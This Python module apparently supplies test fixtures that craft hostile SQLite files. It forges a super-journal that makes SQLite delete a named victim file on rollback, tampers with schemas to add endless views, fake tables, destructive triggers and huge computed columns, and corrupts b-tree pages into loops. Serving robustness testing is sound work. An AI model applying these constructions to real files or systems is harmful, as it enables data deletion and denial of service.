"""Hostile SQLite files: journals that name other files, views, trees without end."""

import os
import sqlite3
import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")


def super_journal(victim: Path, *, header: bytes = MAGIC) -> bytes:
    """A journal after whose rollback SQLite deletes another file."""
    start = header + struct.pack(">IIIII", 0, 1, 1, 512, 4096)
    name = os.fsencode(victim)
    end = struct.pack(">II", len(name), sum(name)) + MAGIC
    return start.ljust(512, b"\0") + struct.pack(">I", 2**30 // 4096 + 1) + name + end


def change(path: Path, *statements: str) -> None:
    """Change a file as its maker could."""
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute("PRAGMA writable_schema = ON")
    connection.execute("PRAGMA foreign_keys = OFF")
    for statement in ("BEGIN", *statements, "COMMIT"):
        connection.execute(statement)
    connection.close()


ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"

TABLES: dict[str, tuple[str, ...]] = {
    "endless view": (
        "ALTER TABLE game RENAME TO old",
        f"CREATE VIEW game AS {ENDLESS} SELECT i AS run, i AS seed, i AS score FROM n",
    ),
    "view under another name": ("CREATE VIEW more AS SELECT * FROM run",),
    "view that says it is a table": (
        "ALTER TABLE game RENAME TO old",
        f"CREATE VIEW game AS {ENDLESS} SELECT i AS run FROM n",
        "UPDATE sqlite_schema SET type = 'table' WHERE name = 'game'",
    ),
    "trigger": ("CREATE TRIGGER t AFTER INSERT ON plan BEGIN DELETE FROM game; END",),
    "virtual table": ("CREATE VIRTUAL TABLE words USING fts5(text)",),
    "more tables": ("CREATE TABLE more (text)",),
    "more columns": ("ALTER TABLE run ADD COLUMN note TEXT",),
    "index of an expression": ("CREATE INDEX i ON game (abs(score))",),
    "fewer tables": ("DROP TABLE failure",),
    "computed column": (
        "DROP TABLE failure",
        "CREATE TABLE failure (run INTEGER, seed TEXT, error TEXT AS (hex(zeroblob(1e8))))",
    ),
}
"""What is done to a study, by name."""


def lead_in_circles(path: Path, table: str) -> None:
    """Have a small file seem to hold a large table.

    All children of the tree's root are one page, a copy of the root, whose children are all one
    leaf.
    """
    connection = sqlite3.connect(path)
    query = "SELECT rootpage FROM sqlite_schema WHERE name = ?"
    (root,) = connection.execute(query, (table,)).fetchone()
    (size,) = connection.execute("PRAGMA page_size").fetchone()
    connection.close()
    content = bytearray(path.read_bytes())
    inner, leaf = _children(content[(root - 1) * size : root * size])[:2]
    for page, child in ((root, inner), (inner, leaf)):
        copy = content[(root - 1) * size : root * size]
        for at in _places(copy):
            copy[at : at + 4] = struct.pack(">I", child)
        content[(page - 1) * size : page * size] = copy
    path.write_bytes(content)


def _places(page: bytearray) -> list[int]:
    """Where an inner page has the numbers of its children; the last child is first."""
    assert page[0] in (2, 5), "an inner page"
    cells = int.from_bytes(page[3:5])
    return [8, *(int.from_bytes(page[at : at + 2]) for at in range(12, 12 + 2 * cells, 2))]


def _children(page: bytearray) -> list[int]:
    return [int.from_bytes(page[at : at + 4]) for at in _places(page)]
